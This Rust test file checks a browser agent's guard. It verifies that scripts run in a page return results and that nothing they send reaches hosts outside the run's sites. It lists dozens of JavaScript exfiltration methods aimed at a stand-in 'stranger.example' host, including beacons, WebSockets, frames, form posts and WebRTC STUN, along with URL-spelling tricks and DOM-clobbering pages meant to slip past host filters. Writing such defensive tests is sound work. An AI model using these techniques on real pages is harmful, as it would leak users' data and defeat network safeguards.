//! Scripts that a run carries out in a page: what they give back, and that nothing which they send, then or
//! later, leaves the run's sites.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use crate::stage::{Asked, HOME, Page, Run, STEP, Stage, look};
use crate::support::{DEADLINE, act_options};
use copilot_browser::connect;
use copilot_ports::{ActOptions, Browser, BrowserError, InterceptedRequest};
use copilot_protocol::{Action, ActionOutcome, ActionStatus};
use serde_json::json;

fn pages(asked: &Asked) -> Page {
    Page::Html(match asked.path.as_str() {
        "/redirect" => return Page::Redirect("http://stranger.example/redirected".into()),
        // A part of the page that sends on what it is told.
        "/widget" => {
            "<script>onmessage = (e) => { new Image().src = 'http://stranger.example/told?' + e.data }</script>".to_owned()
        }
        "/framed" => "<iframe src='http://widget.example/widget'></iframe>".to_owned(),
        "/with-frame" => "<iframe src='/inner'></iframe>".to_owned(),
        "/clobbered" => {
            "<form name=head></form><form name=createElement></form><form id=head></form>".to_owned()
        }
        path => format!("<h1>{path}</h1><p id=said>Words of the page</p>"),
    })
}

/// As a run does it: the guard is told of the page, and then the code is run.
async fn run_code_within(run: &Run, code: &str, options: ActOptions) -> ActionOutcome {
    let action = Action::RunCode { code: code.into() };
    run.browser.facts(&action).await.unwrap();
    run.browser.act(&action, &options).await.unwrap()
}

async fn run_code(run: &Run, code: &str) -> ActionOutcome {
    run_code_within(run, code, act_options()).await
}

/// Loads a page, or stays where that was held.
async fn go(run: &Run, url: &str) {
    run.act(&Action::Navigate { url: url.into() }).await;
}

async fn held(run: &Run) -> Vec<InterceptedRequest> {
    run.browser.held_requests().await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_gives_its_result_or_says_why_not() {
    let stage = Stage::start(pages).await;
    let run = stage.run().await;
    for (code, text) in [
        (
            "return document.querySelector('#said').textContent",
            "\"Words of the page\"",
        ),
        (
            "async () => ({ a: [1, null], b: await Promise.resolve('ж') })",
            r#"{"a":[1,null],"b":"ж"}"#,
        ),
        ("function () { return 7 }", "7"),
        ("return 10n", "10"),
        ("const a = {}; a.a = a; return a", "[object Object]"),
        ("return '\\ud800'", "\"\\\\ud800\""),
    ] {
        let outcome = run_code(&run, code).await;
        assert_eq!(outcome.status, ActionStatus::Ok, "{code}: {outcome:?}");
        assert_eq!(
            outcome.text.as_deref(),
            Some(text.replace("\\\\", "\\").as_str()),
            "{code}"
        );
    }
    let long = run_code(&run, "return 'x'.repeat(1e6)").await;
    assert_eq!(long.text.unwrap().chars().count(), 20_001);
    let nothing = run_code(&run, "document.title = 'Changed'").await;
    assert_eq!((nothing.status, nothing.text), (ActionStatus::Ok, None));
    assert_eq!(run.says("document.title").await, "Changed");
    for (code, why, says) in [
        (
            "return missing.part",
            "threw",
            "ReferenceError: missing is not defined",
        ),
        ("await Promise.reject('a reason')", "threw", "a reason"),
        ("return (", "could not be read", "SyntaxError"),
    ] {
        let outcome = run_code(&run, code).await;
        assert_eq!(outcome.status, ActionStatus::Other, "{code}: {outcome:?}");
        assert!(outcome.detail.unwrap().contains(why), "{code}");
        assert!(outcome.text.unwrap().contains(says), "{code}");
    }
    // A message of the page is the script's effect, and the run may answer it.
    let asked = run_code(
        &run,
        "const said = confirm('Go on?'); document.title = 'said ' + said",
    )
    .await;
    assert!(asked.detail.unwrap().contains("Go on?"));
    let accept = Action::HandleDialog {
        accept: true,
        text: None,
    };
    assert!(run.act(&accept).await.status.is_ok());
    let end = Instant::now() + DEADLINE;
    while run.says("document.title").await != "said true" {
        assert!(Instant::now() < end, "the script did not go on");
        tokio::time::sleep(STEP).await;
    }
    // One that does not end is ended, and the page lives.
    let brief = || ActOptions {
        deadline: Duration::from_secs(2),
        ..act_options()
    };
    for code in ["while (true) {}", "await new Promise(() => {})"] {
        let outcome = run_code_within(&run, code, brief()).await;
        assert_eq!(outcome.status, ActionStatus::Timeout, "{code}: {outcome:?}");
        assert_eq!(
            run_code(&run, "return 1").await.text.as_deref(),
            Some("1"),
            "after {code}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_runs_in_the_document_that_it_was_judged_for_alone() {
    let stage = Stage::start(pages).await;
    let run = stage.run().await;
    let action = Action::RunCode {
        code: "document.title = 'ran'".into(),
    };
    // Never judged.
    let outcome = run.act(&action).await;
    assert_eq!(outcome.status, ActionStatus::FingerprintChanged);
    // Another document has the same address: it is another one to the guard, and to the browser.
    let before = run.browser.facts(&action).await.unwrap();
    run.act(&Action::Reload).await;
    let outcome = run.act(&action).await;
    assert_eq!(outcome.status, ActionStatus::FingerprintChanged);
    let after = run.browser.facts(&action).await.unwrap();
    assert_eq!(before.page_url, after.page_url);
    assert_ne!(
        copilot_guard::fingerprint(&action, &before),
        copilot_guard::fingerprint(&action, &after)
    );
    // One judgement is good for one use.
    assert_eq!(run.act(&action).await.status, ActionStatus::Ok);
    assert_eq!(run.says("document.title").await, "ran");
    assert_eq!(
        run.act(&action).await.status,
        ActionStatus::FingerprintChanged
    );
    // Where nothing holds requests no script is run.
    let free = stage.free_run(HOME).await.browser;
    free.facts(&action).await.unwrap();
    let outcome: Result<ActionOutcome, BrowserError> = free.act(&action, &act_options()).await;
    assert_eq!(outcome.unwrap().status, ActionStatus::NotActionable);
}

/// Ways to send something to the stranger; `T` is the stranger's address, with a path of its own.
const WAYS: &[(&str, &str)] = &[
    (
        "fetch",
        "try { await fetch(T, {mode: 'no-cors'}) } catch {}",
    ),
    (
        "fetch-keepalive",
        "try { await fetch(T, {mode: 'no-cors', method: 'POST', keepalive: true, body: 'x'}) } catch {}",
    ),
    (
        "xhr",
        "const x = new XMLHttpRequest(); x.open('POST', T); x.send('data')",
    ),
    (
        "xhr-sync",
        "const x = new XMLHttpRequest(); x.open('GET', T, false); try { x.send() } catch {}",
    ),
    ("beacon", "navigator.sendBeacon(T, 'data')"),
    ("image", "new Image().src = T"),
    (
        "image-in-page",
        "document.body.insertAdjacentHTML('beforeend', `<img src='${T}'>`)",
    ),
    ("style", "document.body.style.backgroundImage = `url(${T})`"),
    (
        "stylesheet",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = T; document.head.append(l)",
    ),
    (
        "script",
        "const s = document.createElement('script'); s.src = T; document.head.append(s)",
    ),
    ("import", "try { await import(T) } catch {}"),
    (
        "video",
        "const v = document.createElement('video'); v.src = T; document.body.append(v)",
    ),
    (
        "prefetch",
        "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = T; document.head.append(l)",
    ),
    (
        "preload",
        "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'fetch'; l.href = T; document.head.append(l)",
    ),
    ("events", "new EventSource(T)"),
    (
        "socket",
        "try { new WebSocket(T.replace('http', 'ws')) } catch {}",
    ),
    (
        "frame",
        "const f = document.createElement('iframe'); f.src = T; document.body.append(f)",
    ),
    (
        "frame-inside",
        "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(T, {mode: 'no-cors'}).catch(() => 0); try { new f.contentWindow.WebSocket(T.replace('http', 'ws')) } catch {}",
    ),
    (
        "frame-home",
        "const f = document.createElement('iframe'); f.src = '/inner'; f.onload = () => { try { new f.contentWindow.WebSocket(T.replace('http', 'ws')) } catch {} }; document.body.append(f)",
    ),
    (
        "frame-srcdoc",
        "const f = document.createElement('iframe'); f.srcdoc = `<img src='${T}'><script>new WebSocket('${T}'.replace('http', 'ws'))</scr` + `ipt>`; document.body.append(f)",
    ),
    (
        "object",
        "const o = document.createElement('object'); o.data = T; document.body.append(o)",
    ),
    (
        "worker",
        "try { new Worker(URL.createObjectURL(new Blob([`fetch('${T}', {mode: 'no-cors'})`]))) } catch {}",
    ),
    (
        "ping",
        "const a = document.createElement('a'); a.href = '#x'; a.ping = T; document.body.append(a); a.click()",
    ),
    (
        "redirect",
        "try { await fetch('/redirect', {mode: 'no-cors'}) } catch {}",
    ),
    (
        "later",
        "setTimeout(() => { new Image().src = T; fetch(T, {mode: 'no-cors'}).catch(() => 0) }, 400)",
    ),
    ("window", "window.open(T)"),
];

/// The same by leaving the page.
const LEAVES: &[(&str, &str)] = &[
    ("location", "location.href = T"),
    (
        "location-later",
        "setTimeout(() => { location.assign(T) }, 400)",
    ),
    (
        "form-get",
        "document.body.innerHTML = `<form action='${T}'><input name=a value=b></form>`; document.forms[0].submit()",
    ),
    (
        "form-post",
        "document.body.innerHTML = `<form method=post action='${T}'><input name=a value=b></form>`; document.forms[0].submit()",
    ),
    (
        "link",
        "const a = document.createElement('a'); a.href = T; document.body.append(a); a.click()",
    ),
    (
        "refresh",
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0; url=${T}`; document.head.append(m)",
    ),
    ("redirect", "location.href = '/redirect'"),
];

fn aimed(name: &str, code: &str, at: &str) -> String {
    format!("const T = '{at}{name}'; {code}; setTimeout(() => fetch('/after-{name}'), 600)")
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_script_sends_stays_within_the_runs_sites() {
    let stage = Stage::start(pages).await;
    let run = stage.run().await;
    for (name, code) in WAYS {
        go(&run, HOME).await;
        let outcome = run_code(&run, &aimed(name, code, "http://stranger.example/")).await;
        assert!(outcome.status.is_ok(), "{name}: {outcome:?}");
        stage.heard(&format!("/after-{name}")).await;
        assert_eq!(stage.strangers(), Vec::<String>::new(), "{name}");
        assert_eq!(
            look(&run.browser).await.url.trim_end_matches("#x"),
            HOME,
            "{name}"
        );
        held(&run).await;
    }
    for (name, code) in LEAVES {
        go(&run, HOME).await;
        held(&run).await;
        run_code(
            &run,
            &aimed(&format!("leave-{name}"), code, "http://stranger.example/"),
        )
        .await;
        stage.heard(&format!("/after-leave-{name}")).await;
        assert_eq!(stage.strangers(), Vec::<String>::new(), "{name}");
        assert!(look(&run.browser).await.url.starts_with(HOME), "{name}");
        assert!(!held(&run).await.iter().any(|held| !held.refused), "{name}");
    }
    // Within the run's sites it sends what it likes, and goes where it likes.
    go(&run, HOME).await;
    let both = "const a = await fetch('/own'); const b = await fetch('http://second.example/other'); return [a.ok, b.ok]";
    assert_eq!(
        run_code(&run, both).await.text.as_deref(),
        Some("[true,true]")
    );
    run_code(&run, "document.body.innerHTML = '<form method=post action=/posted></form>'; document.forms[0].submit()").await;
    stage.heard("POST home.example/posted").await;
    assert_eq!(stage.strangers(), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_stopped_is_told() {
    let stage = Stage::start(pages).await;
    for (name, code) in [
        ("fetch", "await fetch(T).catch(() => 0)"),
        (
            "socket",
            "const s = new WebSocket(T.replace('http', 'ws')); await new Promise((done) => { s.onerror = s.onclose = done })",
        ),
        ("location", "location.href = T"),
    ] {
        let run = stage.run().await;
        let outcome = run_code(&run, &aimed(name, code, "http://stranger.example/")).await;
        // A way out is told when it is taken, which may be a moment after the script has ended.
        let end = Instant::now() + DEADLINE;
        let mut told = Vec::new();
        while !told
            .iter()
            .any(|h: &InterceptedRequest| h.url.contains("stranger.example"))
        {
            assert!(Instant::now() < end, "{name} was not told of: {told:?}");
            told.extend(held(&run).await);
            tokio::time::sleep(STEP).await;
        }
        assert!(told.iter().all(|h| h.refused), "{name}: {told:?}");
        if name != "location" {
            let detail = outcome.detail.unwrap_or_default();
            assert!(
                detail.contains("requests to stranger.example were stopped"),
                "{name}: {detail:?}"
            );
        }
        run.browser.close().await;
    }
    assert_eq!(stage.strangers(), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread")]
async fn other_spellings_frames_and_traps_change_nothing() {
    let stage = Stage::start(pages).await;
    let run = stage.run().await;
    for (n, to) in [
        "//stranger.example/a",
        "HTTP://STRANGER.EXAMPLE/a",
        "http://stranger%2eexample/a",
        "http://home.example@stranger.example/a",
        "http://stranger。example/a",
        "http:\\\\\\\\stranger.example/a",
        "http://stranger.example./a",
        "http://home.example.stranger.example/a",
        "http://2130706433/a",
        "http://0x7f.1/a",
        "http://[::ffff:127.0.0.1]/a",
        "http://home.example:80@127.1/a",
    ]
    .iter()
    .enumerate()
    {
        let code = format!(
            "const T = '{to}'; new Image().src = T; fetch(T, {{mode: 'no-cors'}}).catch(() => 0); \
             navigator.sendBeacon(T); setTimeout(() => fetch('/spelled-{n}'), 100)"
        );
        assert!(run_code(&run, &code).await.status.is_ok(), "{to}");
        stage.heard(&format!("/spelled-{n}")).await;
        assert_eq!(stage.strangers(), Vec::<String>::new(), "{to}");
    }
    // A page that has given its own things the names that the hold needs.
    go(&run, "http://home.example/clobbered").await;
    let outcome = run_code(
        &run,
        &aimed(
            "clobbered",
            "new WebSocket(T.replace('http', 'ws'))",
            "http://stranger.example/",
        ),
    )
    .await;
    assert!(outcome.status.is_ok(), "{outcome:?}");
    stage.heard("/after-clobbered").await;
    assert_eq!(stage.strangers(), Vec::<String>::new());
    // What is sent while the page is left, when the next document is there already.
    go(&run, HOME).await;
    let leaving = "addEventListener('pagehide', () => { navigator.sendBeacon('http://stranger.example/left', 'x'); \
                   new Image().src = 'http://stranger.example/left'; fetch('http://stranger.example/left', {keepalive: true, mode: 'no-cors'}) })";
    assert!(run_code(&run, leaving).await.status.is_ok());
    go(&run, "http://home.example/next").await;
    run.says("fetch('/left-behind')").await;
    stage.heard("/left-behind").await;
    assert_eq!(stage.strangers(), Vec::<String>::new());
    // A frame of a stranger that sends on what it is told: its own requests are held with the page's.
    go(&run, "http://home.example/framed").await;
    let end = Instant::now() + DEADLINE;
    while run.says("frames.length").await != 1
        || !stage.strangers().iter().any(|s| s.contains("/widget"))
    {
        assert!(Instant::now() < end, "the frame did not come");
        tokio::time::sleep(STEP).await;
    }
    look(&run.browser).await;
    assert!(
        run_code(
            &run,
            "frames[0].postMessage('words', '*'); setTimeout(() => fetch('/posted-to-frame'), 600)"
        )
        .await
        .status
        .is_ok()
    );
    stage.heard("/posted-to-frame").await;
    assert!(
        !stage.strangers().iter().any(|s| s.contains("/told")),
        "{:?}",
        stage.strangers()
    );
    // The next document of the page is as free as ever.
    go(&run, "http://home.example/after").await;
    run.says("new Image().src = 'http://stranger.example/picture'")
        .await;
    let end = Instant::now() + DEADLINE;
    while !stage.strangers().iter().any(|s| s.contains("/picture")) {
        assert!(Instant::now() < end, "the next document is still held");
        tokio::time::sleep(STEP).await;
    }
}

/// What a script leaves behind in a page is gone before the hold is.
#[tokio::test(flavor = "multi_thread")]
async fn nothing_of_a_script_outlives_its_run() {
    let stage = Stage::start(pages).await;
    for (n, more) in [
        "",
        "onbeforeunload = () => 'stay'",
        "setTimeout(() => alert('wait'), 50)",
        "setInterval(() => alert('again'), 50)",
    ]
    .iter()
    .enumerate()
    {
        let at = format!("{HOME}stays-{n}");
        let run = stage.run_at(&at).await;
        let code = format!(
            "window.left = 1; setInterval(() => {{ location.href = 'http://stranger.example/late' }}, 300); {more}"
        );
        run_code(&run, &code).await;
        run.browser.detach().await;
        // The tab is there, with the page as it is loaded anew.
        let folder = tempfile::tempdir().unwrap();
        let other = connect(&stage.options(folder.path())).await.unwrap();
        let tabs = other.tabs().await.unwrap();
        // A page that does not let go of its document in time is closed.
        let Some(tab) = tabs.iter().find(|tab| tab.url == at) else {
            other.detach().await;
            continue;
        };
        other.take_tab(&tab.id).await.unwrap();
        let params = json!({"expression": "String(window.left)", "returnByValue": true});
        let told = other
            .command_for_test(true, "Runtime.evaluate", params)
            .await;
        assert_eq!(told.unwrap()["result"]["value"], "undefined", "{more}");
        let params = json!({"url": "about:blank"});
        let gone = other.command_for_test(true, "Page.navigate", params).await;
        gone.unwrap();
        other.detach().await;
    }
    assert_eq!(stage.strangers(), Vec::<String>::new());
}

/// Ways past the requests that a browser tells of: datagrams to `PORT` of this machine.
const BESIDE: &[(&str, &str)] = &[
    ("stun", "await gather(window, 'stun:127.0.0.1:PORT')"),
    (
        "stun-in-frame",
        "const f = document.createElement('iframe'); document.body.append(f); await gather(f.contentWindow, 'stun:127.0.0.1:PORT')",
    ),
    (
        "stun-in-srcdoc",
        "const f = document.createElement('iframe'); f.srcdoc = 'x'; const there = new Promise((r) => { f.onload = r }); \
         document.body.append(f); await Promise.race([there, wait(1000)]); await gather(f.contentWindow, 'stun:127.0.0.1:PORT')",
    ),
    (
        "stun-in-old-frame",
        "await gather(frames[0], 'stun:127.0.0.1:PORT')",
    ),
    (
        "peer",
        "const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p.createDataChannel('a'); await p.setLocalDescription(); \
         await q.setRemoteDescription(p.localDescription); await q.setLocalDescription(); await p.setRemoteDescription(q.localDescription); \
         await p.addIceCandidate({candidate: 'candidate:1 1 udp 2113937151 127.0.0.1 PORT typ host', sdpMid: '0', sdpMLineIndex: 0}); await wait(500)",
    ),
];

fn beside(code: &str, port: u16) -> String {
    format!(
        "const wait = (ms) => new Promise((done) => setTimeout(done, ms)); \
         const gather = async (w, urls) => {{ const p = new w.RTCPeerConnection({{iceServers: [{{urls, username: 'a', credential: 'b'}}]}}); \
         p.createDataChannel('a'); await p.setLocalDescription(); await wait(500) }}; \
         try {{ {} }} catch (e) {{ return 'threw ' + e }}",
        code.replace("PORT", &port.to_string())
    )
}

/// A socket that notes what comes.
struct Peer {
    port: u16,
    came: Arc<AtomicUsize>,
}

impl Peer {
    async fn open() -> Self {
        let socket = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let port = socket.local_addr().unwrap().port();
        let came = Arc::<AtomicUsize>::default();
        let noted = came.clone();
        tokio::spawn(async move {
            let mut read = [0; 2048];
            while socket.recv_from(&mut read).await.is_ok() {
                noted.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { port, came }
    }

    /// What has come since the last time.
    fn take(&self) -> usize {
        self.came.swap(0, Ordering::SeqCst)
    }

    /// Something has come.
    async fn reached(&self) -> bool {
        let end = Instant::now() + Duration::from_secs(5);
        while self.came.load(Ordering::SeqCst) == 0 && Instant::now() < end {
            tokio::time::sleep(STEP).await;
        }
        self.take() > 0
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_connects_to_no_peers() {
    let stage = Stage::start(pages).await;
    let peer = Peer::open().await;
    let run = stage.run().await;
    for (name, code) in BESIDE {
        go(&run, "http://home.example/with-frame").await;
        let outcome = run_code(&run, &beside(code, peer.port)).await;
        assert_eq!(peer.take(), 0, "{name}: {outcome:?}");
    }
    // The same where nothing holds them, so that each could have come.
    let mut lame = Vec::new();
    for (name, code) in BESIDE {
        go(&run, "http://home.example/with-frame").await;
        peer.take();
        let code = format!(
            "(async () => {{ {} }})().then((told) => {{ window.told = told }}); 0",
            beside(code, peer.port)
        );
        run.says(&code).await;
        if !peer.reached().await {
            lame.push(format!("{name}: {}", run.says("window.told").await));
        }
    }
    assert_eq!(lame, Vec::<String>::new());
}

/// Without the hold each of the ways arrives, so the test above can fail.
#[tokio::test(flavor = "multi_thread")]
async fn the_ways_work_where_nothing_is_held() {
    let stage = Stage::start(pages).await;
    let run = stage.free_run(HOME).await;
    let mut lame = Vec::new();
    let all = WAYS
        .iter()
        // Windows need a press of a person.
        .filter(|(name, _)| *name != "window")
        .map(|w| ("", w))
        .chain(LEAVES.iter().map(|w| ("leave-", w)));
    for (kind, (name, code)) in all {
        go(&run, HOME).await;
        stage.strangers.lock().unwrap().clear();
        let code = aimed(&format!("{kind}{name}"), code, "http://stranger.example/");
        let code = format!("(async () => {{ {code} }})(); 0");
        run.says(&code).await;
        let end = Instant::now() + DEADLINE;
        while stage.strangers().is_empty() && Instant::now() < end {
            tokio::time::sleep(STEP).await;
        }
        if stage.strangers().is_empty() {
            lame.push(format!("{kind}{name}"));
        }
    }
    assert_eq!(lame, Vec::<String>::new());
}
